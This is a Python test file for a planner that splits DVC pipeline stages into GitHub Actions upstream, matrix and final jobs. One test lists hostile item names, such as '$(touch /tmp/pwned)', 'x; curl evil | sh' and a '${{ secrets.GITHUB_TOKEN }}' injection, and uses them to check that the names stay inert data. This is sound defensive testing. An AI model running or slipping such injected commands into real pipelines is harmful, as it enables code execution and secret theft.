"""The fan-out planner (mlops_gitops.pipeline.fanout), on pipeline facts built by hand.

What it must hold for any graph: every changed stage runs in exactly one job; a job runs only after
what it depends on (upstream before the matrix, the matrix before final, no entry waits for another);
never more matrix entries than GitHub allows; the same input gives the same plan, byte for byte.
"""

from __future__ import annotations

import json
import posixpath
import re
from collections.abc import Iterable, Mapping, Sequence

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlops_gitops.pipeline import fanout
from mlops_gitops.pipeline.facts import PipelineFacts, RepoFacts, StageFacts
from mlops_gitops.pipeline.fanout import Placement, Plan, PlanError, Settings, plan, targets_of
from mlops_gitops.pipeline.stagediff import downstream

BASE = Placement("ubuntu-latest", None, 120)
GPU = Placement(("self-hosted", "gpu"), "cuda@sha256:" + "a" * 64, 240, "train@*")
SETTINGS = Settings(base=BASE)


def stage(
    address: str,
    deps: Iterable[str] = (),
    outs: Iterable[str] = (),
    *,
    params: Sequence[tuple[str, tuple[str, ...]]] = (),
    **keys: object,
) -> StageFacts:
    dvcfile, _, name = address.rpartition(":")
    dvcfile = dvcfile or "dvc.yaml"
    group = name.partition("@")[0] if "@" in name else None
    return StageFacts(
        address=address,
        name=name,
        group=group,
        dvcfile=dvcfile,
        wdir=posixpath.dirname(dvcfile) or ".",
        cmd=f"run {name}",
        deps=tuple(deps),
        params=tuple(params),
        outs=tuple(outs),
        **keys,  # type: ignore[arg-type]
    )


def repo(*stages: StageFacts) -> RepoFacts:
    files = list(dict.fromkeys(s.dvcfile for s in stages))
    return RepoFacts(
        tuple(PipelineFacts(f, tuple(s for s in stages if s.dvcfile == f)) for f in sorted(files))
    )


def items(
    group: str, names: Iterable[str], prefix: str = "", extra_deps: Iterable[str] = ()
) -> list[StageFacts]:
    return [
        stage(f"{prefix}{group}@{n}", [*extra_deps, f"data/{group}/{n}.csv"], [f"models/{group}/{n}"])
        for n in names
    ]


def foreach_repo(n: int = 6) -> RepoFacts:
    """prepare -> train@c1..cN -> aggregate (the shape of the issue)."""
    return repo(
        stage("prepare", ["data/raw.csv"], ["data/prepared"]),
        *items("train", [f"c{i}" for i in range(1, n + 1)], extra_deps=["data/prepared"]),
        stage("aggregate", ["models/train"], ["metrics.json"]),
    )


def all_changed(facts: RepoFacts) -> dict[str, str]:
    return {s.address: "changed" for s in facts.stages()}


def make(
    facts: RepoFacts,
    changed: Mapping[str, str] | None = None,
    pipelines: Sequence[str] | None = None,
    settings_: Settings = SETTINGS,
    placements: Mapping[str, Placement] | None = None,
) -> Plan:
    changed = all_changed(facts) if changed is None else changed
    if pipelines is None:
        pipelines = sorted({facts.stage(a).dvcfile for a in changed})
    return plan(facts, changed, pipelines, settings_, placements)


def tiers(result: Plan) -> tuple[list[str], list[list[str]], list[str]]:
    return (
        list(result.upstream.stages) if result.upstream else [],
        [list(j.stages) for j in result.fan],
        list(result.final.stages) if result.final else [],
    )


# ---------------------------------------------------------------------------------------------------
# The three tiers.


def test_items_fan_out_between_what_they_need_and_what_needs_them() -> None:
    result = make(foreach_repo())
    assert tiers(result) == (
        ["prepare"],
        [[f"train@c{i}"] for i in range(1, 7)],
        ["aggregate"],
    )
    assert [j.id for j in result.fan] == [f"train-c{i}" for i in range(1, 7)]
    assert [j.targets for j in result.fan] == [(f"train@c{i}",) for i in range(1, 7)]
    assert result.upstream is not None and result.upstream.targets == ("prepare",)
    assert result.final is not None and result.final.targets == ("dvc.yaml",)  # every run restored there


def test_only_changed_items_fan_out_and_the_final_job_still_reproduces_the_pipeline() -> None:
    facts = foreach_repo()
    changed = downstream(facts, {"train@c2": "data/train/c2.csv", "train@c5": "data/train/c5.csv"})
    result = make(facts, changed)
    assert tiers(result) == ([], [["train@c2"], ["train@c5"]], ["aggregate"])
    assert result.upstream is None and result.final is not None
    assert result.final.targets == ("dvc.yaml",)
    assert result.changed == changed


def test_one_changed_item_is_one_job_unless_min_jobs_is_1() -> None:
    facts = foreach_repo()
    changed = downstream(facts, {"train@c3": "data/train/c3.csv"})
    assert tiers(make(facts, changed)) == ([], [], ["train@c3", "aggregate"])
    assert "fewer than fanout.min_jobs (2)" in make(facts, changed).notes[0]
    single = make(facts, changed, settings_=Settings(BASE, min_jobs=1))
    assert tiers(single) == ([], [["train@c3"]], ["aggregate"])


def test_nothing_changed_is_no_job_at_all() -> None:
    result = make(foreach_repo(), {}, [])
    assert not result.retrain and result.jobs() == ()
    assert result.outputs() == {
        "retrain": "false",
        "pipelines": "[]",
        "has_upstream": "false",
        "has_fan": "false",
        "upstream": "null",
        "matrix": '{"include":[]}',
        "final": "null",
    }
    assert result.lines() == ["nothing to reproduce", "retrain=false"]


def test_a_pipeline_that_retrains_with_no_stage_changed_still_has_its_final_job() -> None:
    """mlops.yaml or the requirements changed: DVC runs nothing again, the report still runs."""
    result = make(foreach_repo(), {}, ["dvc.yaml"])
    assert tiers(result) == ([], [], [])
    assert result.final is not None and result.final.targets == ("dvc.yaml",)


def test_an_items_private_chain_stays_in_its_job() -> None:
    names = ["us", "uk", "fr"]
    facts = repo(
        *items("train", names),
        *[stage(f"evaluate@{n}", [f"models/train/{n}"], [f"eval/{n}.json"]) for n in names],
        stage("report", ["eval"], ["report.json"]),
    )
    result = make(facts)
    assert tiers(result) == (
        [],
        [[f"train@{n}", f"evaluate@{n}"] for n in names],
        ["report"],
    )
    assert [j.targets for j in result.fan] == [(f"evaluate@{n}",) for n in names]  # reproduces both


def test_a_wide_matrix_below_a_narrow_split_fans_out_the_matrix() -> None:
    """split (a foreach of two) -> train (a matrix of four, all reading split@train) -> select ->
    evaluate (which also reads split@test): the four trainings run side by side, not one after
    the other behind their split; split@test runs beside them."""
    trainings = [f"train@{lr}-{seed}" for lr in ("0.1", "0.01") for seed in (1, 2)]
    facts = repo(
        stage("featurise", ["data/raw.csv"], ["data/features.csv"]),
        stage("split@train", ["data/features.csv"], ["data/train.csv"]),
        stage("split@test", ["data/features.csv"], ["data/test.csv"]),
        *[stage(t, ["data/train.csv"], [f"models/{t}.pkl"]) for t in trainings],
        stage("select", [f"models/{t}.pkl" for t in trainings], ["model.pkl"]),
        stage("evaluate", ["model.pkl", "data/test.csv"], ["metrics.json"]),
    )
    assert tiers(make(facts)) == (
        ["featurise", "split@train"],
        [["split@test"], *([t] for t in trainings)],
        ["select", "evaluate"],
    )


def test_a_wide_matrix_below_expensive_items_keeps_each_items_chain() -> None:
    """prep@c1..c4, each read by three seeds of train: pushing the four preps upstream would run them
    one after the other; four chains of prep and its three seeds are the shorter way."""
    customers, seeds = ["c1", "c2", "c3", "c4"], [1, 2, 3]
    facts = repo(
        *[stage(f"prep@{c}", [f"data/{c}.csv"], [f"prep/{c}"]) for c in customers],
        *[stage(f"train@{c}-{s}", [f"prep/{c}"], [f"models/{c}-{s}"]) for c in customers for s in seeds],
    )
    up, fan, final = tiers(make(facts))
    assert (up, final) == ([], [])
    assert fan == [[f"prep@{c}", *(f"train@{c}-{s}" for s in seeds)] for c in customers]


def test_independent_pipelines_are_entries_and_dependent_ones_share_one() -> None:
    facts = repo(
        stage("pipelines/a/dvc.yaml:prep", ["a/raw"], ["a/prep"]),
        stage("pipelines/a/dvc.yaml:fit", ["a/prep"], ["a/model"]),
        stage("pipelines/b/dvc.yaml:fit", ["b/raw"], ["b/model"]),
        stage("pipelines/c/dvc.yaml:score", ["a/model"], ["c/score"]),  # reads a's model
    )
    result = make(facts)
    assert [j.id for j in result.fan] == ["pipelines-a", "pipelines-b"]
    assert tiers(result) == (
        [],
        [
            ["pipelines/a/dvc.yaml:prep", "pipelines/a/dvc.yaml:fit", "pipelines/c/dvc.yaml:score"],
            ["pipelines/b/dvc.yaml:fit"],
        ],
        [],
    )
    assert result.final is not None
    assert result.final.targets == ("pipelines/a/dvc.yaml", "pipelines/b/dvc.yaml", "pipelines/c/dvc.yaml")


def test_a_stage_joining_two_pipeline_entries_merges_them() -> None:
    facts = repo(
        stage("pipelines/a/dvc.yaml:fit", ["a/raw"], ["a/model"]),
        stage("pipelines/b/dvc.yaml:fit", ["b/raw"], ["b/model"]),
        stage("pipelines/c/dvc.yaml:blend", ["a/model", "b/model"], ["c/blend"]),
        stage("pipelines/d/dvc.yaml:fit", ["d/raw"], ["d/model"]),
    )
    result = make(facts)
    assert tiers(result)[1] == [
        ["pipelines/a/dvc.yaml:fit", "pipelines/b/dvc.yaml:fit", "pipelines/c/dvc.yaml:blend"],
        ["pipelines/d/dvc.yaml:fit"],
    ]
    assert [j.id for j in result.fan] == ["pipelines-a-and-1-more", "pipelines-d"]


def test_pipelines_and_items_fan_out_together() -> None:
    facts = repo(
        *foreach_repo(3).stages(),
        stage("pipelines/other/dvc.yaml:featurize", ["pipelines/other/data.csv"], ["pipelines/other/f.csv"]),
        stage("pipelines/other/dvc.yaml:fit", ["pipelines/other/f.csv"], ["pipelines/other/fit.json"]),
    )
    result = make(facts)
    assert tiers(result) == (
        ["prepare"],
        [
            ["train@c1"],
            ["train@c2"],
            ["train@c3"],
            ["pipelines/other/dvc.yaml:featurize", "pipelines/other/dvc.yaml:fit"],
        ],
        ["aggregate"],
    )
    assert result.fan[-1].id == "pipelines-other"
    assert result.fan[-1].targets == ("pipelines/other/dvc.yaml:fit",)


def test_what_the_run_cache_cannot_restore_runs_once_in_the_final_job() -> None:
    base = foreach_repo(4)
    persist = stage(
        "train@c2", ["data/prepared", "data/train/c2.csv"], ["models/train/c2"], persist=("models/train/c2",)
    )
    facts = repo(*[persist if s.address == "train@c2" else s for s in base.stages()])
    assert tiers(make(facts)) == (
        ["prepare"],
        [["train@c1"], ["train@c3"], ["train@c4"]],
        ["train@c2", "aggregate"],
    )

    fetch = stage("fetch", [], ["data/raw.csv"], always_changed=True)
    everything = repo(fetch, *base.stages())
    result = make(everything)  # below a stage that always runs: nothing can run before the final job
    assert tiers(result) == ([], [], [s.address for s in everything.stages()])


def test_disabled_runs_everything_in_one_job() -> None:
    result = make(foreach_repo(), settings_=Settings(BASE, enabled=False))
    assert tiers(result) == ([], [], ["prepare", *[f"train@c{i}" for i in range(1, 7)], "aggregate"])


def test_a_group_of_one_item_is_not_fanned_out_as_items() -> None:
    facts = repo(stage("prepare", ["raw"], ["prep"]), stage("train@only", ["prep"], ["model"]))
    assert tiers(make(facts, settings_=Settings(BASE, min_jobs=1))) == ([], [["prepare", "train@only"]], [])


# ---------------------------------------------------------------------------------------------------
# Runners, timeouts, containers.


def test_stage_runners_place_their_entries_and_timeouts_add_up() -> None:
    facts = foreach_repo(2)
    placements = {f"train@c{i}": GPU for i in (1, 2)} | {
        "aggregate": Placement("ubuntu-latest", None, 10, "aggregate")
    }
    result = make(facts, placements=placements)
    train = result.fan[0]
    assert (train.runs_on, train.container, train.timeout_minutes, train.runner) == (
        ("self-hosted", "gpu"),
        GPU.container,
        240,
        "train@*",
    )
    assert train.to_json()["runs_on"] == ["self-hosted", "gpu"]
    assert result.upstream is not None and result.upstream.runs_on == "ubuntu-latest"
    assert result.upstream.timeout_minutes == 120 and result.upstream.runner is None
    # The final job restores and reports (the job's own timeout) and runs aggregate (its own 10).
    assert result.final is not None and result.final.timeout_minutes == 130


def test_a_chain_stage_on_another_runner_goes_to_the_final_job() -> None:
    names = ["us", "uk"]
    facts = repo(
        *items("train", names),
        *[stage(f"evaluate@{n}", [f"models/train/{n}"], [f"eval/{n}.json"]) for n in names],
    )
    cpu = Placement("ubuntu-latest", None, 15, "evaluate@*")
    gpu = {f"train@{n}": GPU for n in names}
    split = make(facts, placements=gpu | {f"evaluate@{n}": cpu for n in names})
    assert tiers(split) == ([], [["train@us"], ["train@uk"]], ["evaluate@us", "evaluate@uk"])
    assert any("evaluate@us runs on another runner" in n for n in split.notes)
    # A stage without a runner of its own follows its entry onto the GPU.
    joined = make(facts, placements=gpu)
    assert tiers(joined)[1] == [["train@us", "evaluate@us"], ["train@uk", "evaluate@uk"]]
    assert joined.fan[0].timeout_minutes == 240 + 120


# ---------------------------------------------------------------------------------------------------
# GitHub's 256 jobs per matrix.


def test_more_than_256_units_are_grouped_into_256_jobs() -> None:
    facts = repo(*items("train", [f"i{n:04d}" for n in range(600)]))
    result = make(facts)
    assert len(result.fan) == 256 == fanout.GITHUB_MAX_JOBS
    sizes = [len(j.stages) for j in result.fan]
    assert set(sizes) == {2, 3} and sum(sizes) == 600
    assert [a for j in result.fan for a in j.stages] == [s.address for s in facts.stages()]  # order kept
    assert [a for j in result.fan for a in j.targets] == [s.address for s in facts.stages()]
    assert len({j.id for j in result.fan}) == 256
    assert result.fan[0].id == "train-i0000-and-2-more" and result.fan[0].timeout_minutes == 3 * 120
    json.loads(result.outputs()["matrix"])  # within the output limit


def test_exactly_256_units_are_not_grouped() -> None:
    facts = repo(*items("train", [f"i{n}" for n in range(256)]))
    assert [len(j.stages) for j in make(facts).fan] == [1] * 256


def test_grouping_keeps_runners_apart_in_proportion() -> None:
    facts = repo(*items("train", [f"g{n}" for n in range(30)]), *items("fit", [f"c{n}" for n in range(10)]))
    gpu = {f"train@g{n}": GPU for n in range(30)}
    result = make(facts, settings_=Settings(BASE, max_jobs=8), placements=gpu)
    assert len(result.fan) == 8
    on_gpu = [j for j in result.fan if j.runner == "train@*"]
    assert [len(j.stages) for j in on_gpu] == [5] * 6
    assert all(a.startswith("train@") for j in on_gpu for a in j.stages)
    assert [len(j.stages) for j in result.fan if j.runner is None] == [5, 5]


def test_more_runners_than_jobs_is_no_fan_out() -> None:
    facts = repo(*items("train", ["a", "b", "c"]))
    placements = {f"train@{n}": Placement(f"pool-{n}", None, None, f"train@{n}") for n in "abc"}
    result = make(facts, settings_=Settings(BASE, max_jobs=2), placements=placements)
    assert tiers(result) == ([], [], ["train@a", "train@b", "train@c"])
    assert result.notes == (
        "the fanned-out stages need 3 different runners, more than fanout.max_jobs (2) jobs can hold: "
        "one job runs every changed stage",
        "the final job runs stages placed on different runners (train@a, train@b, train@c): it uses the first",
    )
    assert result.final is not None and result.final.runs_on == "pool-a"


def test_outputs_beyond_githubs_limit_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fanout, "GITHUB_OUTPUTS_LIMIT", 500)
    with pytest.raises(PlanError, match="more than GitHub's 500"):
        make(foreach_repo()).outputs()


# ---------------------------------------------------------------------------------------------------
# JSON: compact, stable, and what the jobs read.


def test_outputs_are_compact_stable_json() -> None:
    facts = foreach_repo(2)
    result = make(facts, placements={"train@c1": GPU, "train@c2": GPU})
    outputs = result.outputs()
    assert outputs["matrix"] == (
        '{"include":[{"id":"train-c1","targets":["train@c1"],"runs_on":["self-hosted","gpu"],'
        '"timeout_minutes":240,"container":"cuda@sha256:' + "a" * 64 + '","runner":"train@*"},'
        '{"id":"train-c2","targets":["train@c2"],"runs_on":["self-hosted","gpu"],'
        '"timeout_minutes":240,"container":"cuda@sha256:' + "a" * 64 + '","runner":"train@*"}]}'
    )
    assert outputs["upstream"] == (
        '{"id":"upstream","targets":["prepare"],"runs_on":"ubuntu-latest","timeout_minutes":120,'
        '"container":null,"runner":null}'
    )
    assert json.loads(outputs["final"])["targets"] == ["dvc.yaml"]
    assert (outputs["retrain"], outputs["has_upstream"], outputs["has_fan"]) == ("true", "true", "true")
    assert make(facts, placements={"train@c1": GPU, "train@c2": GPU}).outputs() == outputs
    full = result.to_json()
    assert full["matrix"]["include"][0]["stages"] == ["train@c1"] and full["changed"]["prepare"] == "changed"


def test_targets_of_a_job_round_trip() -> None:
    result = make(foreach_repo())
    for job in result.jobs():
        assert targets_of(json.dumps(job.to_json())) == job.targets
    for bad in ("[", "[]", '{"targets": "x"}', '{"targets": [""]}', '{"targets": ["a\\u0000b"]}'):
        with pytest.raises(PlanError):
            targets_of(bad)


def test_hostile_item_names_stay_data_in_ids_targets_and_outputs() -> None:
    """A pull request's dvc.yaml chooses the item names. They become a job's display name and its
    artifact's name only through the id (``[A-Za-z0-9._-]``), and reach `dvc repro` only as the exact
    target strings of a NUL-separated file; a `${{ }}` in an output is never evaluated again."""
    hostile = ["$(touch /tmp/pwned)", "x; curl evil | sh", "${{ secrets.GITHUB_TOKEN }}", "a\nb", "ü 🚀"]
    facts = repo(
        stage("prepare", ["data/raw.csv"], ["data/prepared"]),
        *items("train", hostile, extra_deps=["data/prepared"]),
    )
    result = make(facts)
    assert len(result.fan) == len(hostile)
    for job in result.fan:
        assert re.fullmatch(r"[A-Za-z0-9._-]{1,64}", job.id), job.id
        assert targets_of(json.dumps(job.to_json())) == job.targets
    assert sorted(t for job in result.fan for t in job.targets) == sorted(f"train@{n}" for n in hostile)
    for value in result.outputs().values():
        assert "\n" not in value  # one line each in $GITHUB_OUTPUT


def test_ids_are_safe_unique_and_never_a_tier_name() -> None:
    ids = fanout._unique_ids(
        ["train-a.b", "train-a.b", "final", "x" * 100, "p/q r@s"], [["1"], ["2"], ["3"], ["4"], ["5"]]
    )
    assert len(set(ids)) == 5 and "final" not in ids
    assert all(len(i) <= 64 and all(c.isalnum() or c in "._-" for c in i) for i in ids)
    assert ids[-1] == "p-q-r-s"


# ---------------------------------------------------------------------------------------------------
# Properties, on random graphs.


@st.composite
def graphs(draw: st.DrawFn) -> tuple[RepoFacts, dict[str, str], dict[str, Placement], Settings]:
    count = draw(st.integers(1, 24))
    stages: list[StageFacts] = []
    groups = 0
    while len(stages) < count:
        dvcfile = draw(st.sampled_from(["dvc.yaml", "pipelines/a/dvc.yaml", "pipelines/b/dvc.yaml"]))
        prefix = "" if dvcfile == "dvc.yaml" else f"{dvcfile}:"
        size = draw(st.integers(1, 4)) if draw(st.booleans()) else 0
        earlier = [o for s in stages for o in s.outs]
        names = [f"g{groups}@{i}" for i in range(size)] if size else [f"s{len(stages)}"]
        groups += 1
        for name in names:
            deps = draw(st.lists(st.sampled_from(earlier), max_size=3, unique=True)) if earlier else []
            kind = draw(st.sampled_from(["plain"] * 6 + ["always", "persist", "nodeps"]))
            own = f"out/{len(stages)}"
            stages.append(
                stage(
                    prefix + name,
                    [] if kind == "nodeps" else [*deps, f"in/{len(stages)}"],
                    [own],
                    always_changed=kind == "always",
                    persist=(own,) if kind == "persist" else (),
                )
            )
    facts = repo(*stages)
    direct = draw(st.sets(st.sampled_from([s.address for s in stages])))
    changed = downstream(facts, {a: "direct" for a in direct})
    gpu = draw(st.sets(st.sampled_from([s.address for s in stages])))
    placements = {a: GPU for a in gpu}
    max_jobs = draw(st.integers(1, 6))
    min_jobs = draw(st.integers(1, max_jobs))
    return facts, changed, placements, Settings(BASE, max_jobs=max_jobs, min_jobs=min_jobs)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(graphs())
def test_every_changed_stage_runs_once_and_after_what_it_needs(
    case: tuple[RepoFacts, dict[str, str], dict[str, Placement], Settings],
) -> None:
    facts, changed, placements, settings_ = case
    pipelines = sorted({facts.stage(a).dvcfile for a in changed})
    result = plan(facts, changed, pipelines, settings_, placements)
    up, fan, final = tiers(result)
    everything = [*up, *(a for job in fan for a in job), *final]
    assert sorted(everything) == sorted(changed)  # exactly once
    assert len(result.fan) <= min(settings_.max_jobs, fanout.GITHUB_MAX_JOBS)
    assert not result.fan or len(result.fan) >= settings_.min_jobs  # else no fan-out at all
    graph = facts.graph()
    for address in up:  # upstream needs nothing changed outside itself
        assert all(p not in changed or p in up for p in graph[address])
    for job in fan:  # an entry needs upstream and itself, never another entry or the final job
        for address in job:
            assert all(p not in changed or p in up or p in job for p in graph[address])
    for job in result.fan:
        assert set(job.targets) <= set(job.stages) and job.targets
        assert 1 <= job.timeout_minutes <= fanout.MAX_TIMEOUT
    assert len({job.id for job in result.jobs()}) == len(result.jobs())
    if pipelines:
        assert result.final is not None and result.final.targets == tuple(pipelines)
    again = plan(facts, dict(changed), list(pipelines), settings_, dict(placements))
    assert again == result and again.outputs() == result.outputs()
